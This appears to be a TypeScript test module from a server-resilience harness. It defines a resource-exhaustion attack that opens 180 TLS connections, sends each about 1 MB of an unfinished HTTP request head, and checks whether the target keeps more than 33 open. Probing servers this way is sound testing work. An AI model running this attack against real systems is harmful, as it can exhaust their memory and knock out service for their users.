import type { Attack } from '../attack.ts';
import { delay, ended, within, written } from '../connections.ts';

const HEAD_BYTES = 1000 * 1024;
/** Maximum number of kept connections: the victim may buffer 32 MiB of incomplete request heads. */
const MOST_KEPT = 33;

export const strangersHeads: Attack = {
  name: 'strangers-heads',
  input: '180 connections, each with 1 MB of an incomplete request head',
  async run({ victim, connections, count }) {
    const begin = Buffer.from(`GET /pods HTTP/1.1\r\nHost: x\r\nX-Odd: ${'a'.repeat(HEAD_BYTES)}`);
    let endings = 0;
    const sending = Array.from({ length: count(180) }, async () => {
      const client = await connections.connectTls(victim.port, { ALPNProtocols: ['http/1.1'] });
      void ended(client).then(() => endings++);
      await within(written(client, begin), 5000);
    });
    const total = (await Promise.all(sending)).length;
    // The victim's close of a connection is noticed only some time after the last write, later on a busy machine.
    await delay(1000);
    for (let tries = 0; tries < 18 && total - endings > MOST_KEPT; tries++) await delay(500);
    const kept = total - endings;
    const success =
      kept > MOST_KEPT ? `the victim buffers ${kept} MB of request heads of unauthenticated clients` : undefined;
    return { did: `${kept} connections were kept`, success };
  },
};
